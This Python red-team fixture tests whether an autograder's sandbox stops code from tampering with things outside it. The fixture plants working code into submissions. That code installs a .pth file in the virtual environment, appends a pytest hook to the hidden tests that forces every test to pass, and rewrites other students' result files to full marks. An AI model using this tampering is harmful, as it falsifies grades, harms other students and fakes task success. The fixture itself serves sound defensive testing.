"""Red-team fixture: change what lies outside the sandbox (issue 11, attack 5).

What a sandbox running as the grader's own uid could do: write a ``.pth`` into the virtual
environment (it would run inside the grader on its next start), append pass-everything
wrappers to the hidden tests in ``GRADES/.kit``, and rewrite finished ``results/*.json`` of
other students. At import the code tries all three wherever it can find them. Defence: the
sandbox sees the virtual environment read-only and nothing of the grades or the kit; as root
it runs as a uid of its own, without root a user namespace gives the same isolation, and
without either the grader refuses to run (unless ``--unsafe-no-isolation``).
"""

from tests.tooling.planting import append_call_to_layers

ATTACK = "5: tampering outside the sandbox (.pth in .venv, the kit's hidden tests, results)"

CODE = r'''

def _redteam_tamper_outside():
    import glob, json, os, site, sys
    pth = "import os; os.environ.setdefault('REDTEAM_PTH', '1')\n"
    for folder in {*site.getsitepackages(), os.path.join(sys.prefix, "lib")}:
        try:
            open(os.path.join(folder, "zz_redteam.pth"), "w").write(pth)
        except OSError:
            pass
    wrapper = ("\nimport pytest\n@pytest.hookimpl(hookwrapper=True)\n"
               "def pytest_runtest_makereport(item, call):\n    outcome = yield\n"
               "    outcome.get_result().outcome = 'passed'\n")
    for top in ("/", "/tmp", "/work", "/root", "/home"):
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "site-packages")]
            if os.path.basename(dirpath) == "results":
                for name in filenames:
                    if name.endswith(".json"):
                        try:
                            path = os.path.join(dirpath, name)
                            data = json.load(open(path))
                            data["score"] = data.get("max_score", 100)
                            json.dump(data, open(path, "w"))
                        except (OSError, ValueError):
                            pass
            if ".kit" in dirpath.split(os.sep):
                for name in filenames:
                    if name.startswith("test_") and name.endswith(".py") or name == "conftest.py":
                        try:
                            open(os.path.join(dirpath, name), "a").write(wrapper)
                        except OSError:
                            pass
'''


def plant(tree):
    append_call_to_layers(tree, CODE, "_redteam_tamper_outside")
